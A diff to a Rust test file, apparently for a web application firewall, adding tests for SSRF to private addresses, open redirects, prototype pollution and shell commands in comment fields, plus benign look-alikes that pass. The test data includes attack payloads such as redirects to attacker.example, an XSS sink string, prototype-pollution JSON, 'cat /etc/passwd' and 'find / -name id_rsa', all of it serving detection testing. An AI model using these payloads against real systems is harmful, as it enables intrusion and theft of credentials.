@@ -354,8 +354,9 @@ fn paranoia_levels_add_rules() {
         "{pl2:?}"
     );
     assert!(pl2.score > pl1.score);
-    // Private addresses in URLs: error at PL1, critical from PL2.
-    let url = "/fetch?url=http%3A%2F%2F10.1.2.3%2Fadmin";
+    // Private addresses in URLs inside text: error at PL1, critical from
+    // PL2 (a URL alone to one is `ssrf-private-url`, critical at PL1).
+    let url = "/fetch?url=see+http%3A%2F%2F10.1.2.3%2Fadmin";
     assert_eq!(get(default_engine(), url).action, Action::Pass);
     assert_eq!(
         get(
@@ -2084,4 +2085,140 @@ fn fifth_review_bypasses_block_and_their_look_alikes_pass() {
         v.attacks
     );
     blocked("x';document.body.innerHTML=location.hash;//", "xss-js-sink");
+}
+
+#[test]
+fn private_urls_and_schemes_without_slashes_block() {
+    let e = default_engine();
+    // A URL alone to a private address is what a server fetches: it
+    // blocks at paranoia 1; in a sentence it only adds to the score.
+    for u in [
+        "http://10.0.0.5/admin",
+        "https://192.168.0.1:8443/",
+        "http://172.16.5.4/internal/api",
+        "http://[fd12:3456::1]/",
+    ] {
+        let t = format!("/fetch?url={}", pct(u));
+        assert_blocks_with(&get(e, &t), "ssrf-private-url", u);
+    }
+    for q in [
+        "see http://192.168.1.1/ for the router settings",
+        "192.168.1.10",
+        "10.0.0.1 is our office gateway",
+        "https://www.example.com/search?q=10.0.0.5+gateway",
+        "router admin at 192.168.1.1, the guide at https://www.example.com/help",
+    ] {
+        let v = get(e, &format!("/fetch?url={}", pct(q)));
+        assert_eq!(v.action, Action::Pass, "{q}: {:?}", v.attacks);
+    }
+    // A scheme and no slash: browsers read the host after it.
+    for t in [
+        "/login?next=https:attacker.example",
+        "/login?next=https%3Aattacker.example%2Flogin",
+        "/login?ReturnUrl=http:attacker.example",
+        "/login?redirect=https:/attacker.example",
+    ] {
+        assert_blocks_with(&get(e, t), "open-redirect-slashes", t);
+    }
+    for q in [
+        "HTTP:1.1 or HTTP:2",
+        "https:443 and http:80",
+        "https: the secure one",
+    ] {
+        let v = get(e, &format!("/login?next={}", pct(q)));
+        assert_eq!(v.action, Action::Pass, "{q}: {:?}", v.attacks);
+    }
+}
+
+#[test]
+fn polluting_paths_in_documents_inside_values_block() {
+    let e = default_engine();
+    let form = "application/x-www-form-urlencoded";
+    // `constructor` then `prototype` in a JSON document inside a value, a
+    // JSON string or a JSON part, through arrays too.
+    let doc = r#"{"a":[{"constructor":{"prototype":{"isAdmin":true}}}]}"#;
+    let v = get(e, &format!("/a?data={}", pct(doc)));
+    assert_blocks_with(&v, "prototype-pollution", doc);
+    let v = post(e, "/a", form, &format!("data={}", pct(doc)));
+    assert_blocks_with(&v, "prototype-pollution", doc);
+    let body = json!({ "data": doc }).to_string();
+    let v = post(e, "/a", "application/json", &body);
+    assert_blocks_with(&v, "prototype-pollution", &body);
+    let part = one_part("name=\"data\"", "application/json", doc);
+    let v = post(e, "/a", "multipart/form-data; boundary=b1", &part);
+    assert_blocks_with(&v, "prototype-pollution", "JSON part");
+    for body in [
+        r#"{"a":[{"__proto__":{"isAdmin":true}}]}"#,
+        r#"[{"constructor":{"prototype":{"x":1}}}]"#,
+    ] {
+        let v = post(e, "/a", "application/json", body);
+        assert_blocks_with(&v, "prototype-pollution", body);
+    }
+    assert_blocks_with(
+        &post(e, "/a", form, "a[0][__proto__][x]=1"),
+        "prototype-pollution",
+        "form key",
+    );
+    // The words as keys or text, with no path from one to the other.
+    for doc in [
+        r#"{"constructor":"ACME Builders","prototype":{"stage":"beta"}}"#,
+        r#"{"proto":"https","items":[{"constructor":"Bob"},{"prototype":"v2"}]}"#,
+        r#"{"note":"the prototype of a constructor in JavaScript"}"#,
+    ] {
+        let v = get(e, &format!("/a?data={}", pct(doc)));
+        assert_eq!(v.action, Action::Pass, "{doc}: {:?}", v.attacks);
+        let v = post(e, "/a", "application/json", doc);
+        assert_eq!(v.action, Action::Pass, "{doc}: {:?}", v.attacks);
+    }
+}
+
+#[test]
+fn developer_prose_passes_and_the_commands_in_it_still_block() {
+    let e = default_engine();
+    let form = "application/x-www-form-urlencoded";
+    // As a browser posts it, with its length.
+    let post = |e: &Engine, target: &str, ty: &str, body: &str| {
+        let headers = vec![
+            ("Host".to_owned(), "app.example".to_owned()),
+            ("User-Agent".to_owned(), UA.to_owned()),
+            ("Content-Type".to_owned(), ty.to_owned()),
+            ("Content-Length".to_owned(), body.len().to_string()),
+        ];
+        let b = body.as_bytes().to_vec();
+        let req = Request::from_parts("POST", target, headers, b, e.limits()).expect("request");
+        e.inspect(&req, None)
+    };
+    let traceback = "Traceback (most recent call last):\n  File \"/app/x.py\", line 3, in <module>\n    import os\nModuleNotFoundError: No module named 'foo'";
+    for q in [
+        "pip install -r requirements.txt",
+        "pip install -r requirements.txt fails with an SSL error, any idea?",
+        "pip install -e .",
+        traceback,
+        "Steps:\n  find /var/log, then the newest file,\n  sort it by date, and send it",
+    ] {
+        let v = post(e, "/comment", form, &format!("text={}", pct(q)));
+        assert_eq!(v.action, Action::Pass, "{q}: {:?}", v.attacks);
+        let v = post(
+            e,
+            "/comment",
+            "application/json",
+            &json!({ "text": q }).to_string(),
+        );
+        assert_eq!(v.action, Action::Pass, "{q}: {:?}", v.attacks);
+    }
+    // A package the sender chose, a requirements file fetched by URL, and
+    // a command alone on a line of its own still block.
+    for q in [
+        "pip install something",
+        "pip3 install -r http://203.0.113.9/r.txt",
+        "pip install -r /tmp/r.txt",
+        "sudo pip install evil-package",
+        "x\nfile /etc/passwd",
+        "x\n  cat /etc/passwd\n",
+        "a\nfind / -name id_rsa",
+        "hello\ncat /etc/passwd, please",
+    ] {
+        let v = post(e, "/comment", form, &format!("text={}", pct(q)));
+        assert_eq!(v.action, Action::Block, "{q}: {:?}", v.attacks);
+    }
 }
